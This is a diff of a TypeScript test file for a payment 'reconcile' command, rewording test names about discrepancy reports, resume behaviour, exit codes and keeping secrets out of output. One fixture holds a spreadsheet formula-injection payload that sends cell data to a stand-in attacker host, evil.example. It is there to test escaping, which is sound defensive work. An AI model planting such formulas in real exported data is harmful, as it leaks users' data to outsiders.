@@ -24,8 +24,8 @@ const resultsOf = (rows: readonly CsvRow[]): Record<string, string> =>
     rows.map(({ idempotencyKey = '', result, detail }) => [idempotencyKey, `${result} ${detail}`.trim()]),
   );
 
-describeBooks('reconcile', (books) => {
-  test('finds nothing and exits with 0 if every attempt agrees with the service', async () => {
+describeBooks('The command reconcile', (books) => {
+  test('reports nothing and exits with 0 if every attempt agrees with the service', async () => {
     await books().paid();
     await books().paid({ status: 'pending', changes: ['PENDING', 'COMPLETED'] });
     await books().paid({ status: 'completed' });
@@ -44,7 +44,7 @@ describeBooks('reconcile', (books) => {
     expect(books().service.requests).toHaveLength(7);
   });
 
-  test('finds each planted difference, and exits with 1', async () => {
+  test('reports every kind of difference between journal and service, and exits with 1', async () => {
     const { journal } = books();
     const amount = { currency: 'EUR', value: '10.00' };
     await books().paid({ key: 'agrees' });
@@ -99,7 +99,7 @@ describeBooks('reconcile', (books) => {
     expect(await journal.findById(payout.service, payout.id)).toMatchObject({ outcome: 'not_sent' });
   });
 
-  test('accepts a transaction for an attempt that created none if it is older or of another attempt', async () => {
+  test('does not report a transaction that is older than the attempt or that another attempt created', async () => {
     const externalId = randomUUID();
     const first = await books().attempt({ key: 'rejected first', externalId }, REJECTED);
     const { transactionId } = await books().paid({ key: 'then paid', externalId });
@@ -137,7 +137,7 @@ describeBooks('reconcile', (books) => {
   });
 });
 
-describeSqliteBooks('reconcile', (books) => {
+describeSqliteBooks('The command reconcile', (books) => {
   test('compares only the attempts within the given time and of the given channel and service', async () => {
     await books().paid({ key: 'before', startedAt: START - 1, shows: null });
     await books().paid({ key: 'first', startedAt: START, shows: null });
@@ -150,14 +150,14 @@ describeSqliteBooks('reconcile', (books) => {
     expect(resultsOf((await books().reconcile(withOffset)).rows())).toEqual({ end: 'missing' });
   });
 
-  test('accepts a status without a recorded change if transactions are not followed (FOLLOW_DAYS=0)', async () => {
+  test('accepts a status that was not recorded as a change if FOLLOW_DAYS is 0, except after a final status', async () => {
     await books().paid({ key: 'later status', changes: ['PENDING', 'PROCESSING'] });
     await books().paid({ key: 'final status', changes: ['FAILED'] });
     const { rows } = await books().reconcile([], { env: { FOLLOW_DAYS: '0' } });
     expect(resultsOf(rows())).toEqual({ 'final status': 'status_differs final_status_changed' });
   });
 
-  test('writes every attempt with --all, and protects spreadsheets from formulas', async () => {
+  test('writes every attempt with --all, and escapes values that a spreadsheet would read as formulas', async () => {
     const externalId = '=HYPERLINK("http://evil.example/?"&A1,"x")\r\n';
     await books().paid({ key: '+1', client: '@shop', externalId });
     const { rows } = await books().reconcile(['--all']);
@@ -176,7 +176,7 @@ describeSqliteBooks('reconcile', (books) => {
     expect(performance.now() - startedAt).toBeGreaterThanOrEqual((23 / 20 - 0.1) * 1000);
   });
 
-  test('prints the summary as JSON, and no secret anywhere', async () => {
+  test('prints the summary as JSON with --json, and never prints credentials', async () => {
     await books().paid();
     await books().paid({ shows: null });
     books().service.respond(({ headers }) => ({ status: 400, json: { message: JSON.stringify(headers) } }));
@@ -191,7 +191,7 @@ describeSqliteBooks('reconcile', (books) => {
       for (const secret of [API_KEY, SECRET_KEY]) expect(text).not.toContain(secret);
   });
 
-  test('exits with 1 during an outage of the service; --resume then compares the remaining attempts', async () => {
+  test('exits with 1 when the service starts to reject lookups, and compares the remaining attempts with --resume', async () => {
     const ids: string[] = [];
     for (let count = 0; count < 60; count += 1)
       ids.push((await books().paid({ key: `${count} ${books().channel}` })).transactionId);
@@ -219,7 +219,7 @@ describeSqliteBooks('reconcile', (books) => {
   test.each([
     ['SIGKILL', null],
     ['SIGINT', 130],
-  ] as const)('continues after the last saved result if %s ended it', async (signal, exitCode) => {
+  ] as const)('continues with --resume after a run that %s ended', async (signal, exitCode) => {
     const keys = Array.from({ length: 80 }, (_, index) => `${index} ${signal}`);
     for (const key of keys) await books().paid({ key });
     const { service, channel, env } = books();
@@ -257,7 +257,7 @@ describeSqliteBooks('reconcile', (books) => {
     ['--resume', [...TIME, '--resume', '--out', reportFile()]],
     ['SERVICE_BASE_URL', [...TIME, '--out', reportFile()], { SERVICE_BASE_URL: '' }],
     ['SERVICE_API_KEY', [...TIME, '--out', reportFile()], { SERVICE_API_KEY: '' }],
-  ])('exits with 2 and sends nothing if %s is wrong: %j', async (name, args, env = {}) => {
+  ])('exits with 2, sends nothing and prints "%s" for the arguments %j', async (name, args, env = {}) => {
     await books().paid();
     const { code, out, err } = await run(['reconcile', ...args], { ...books().env, ...env });
     expect({ code, out }).toEqual({ code: 2, out: '' });
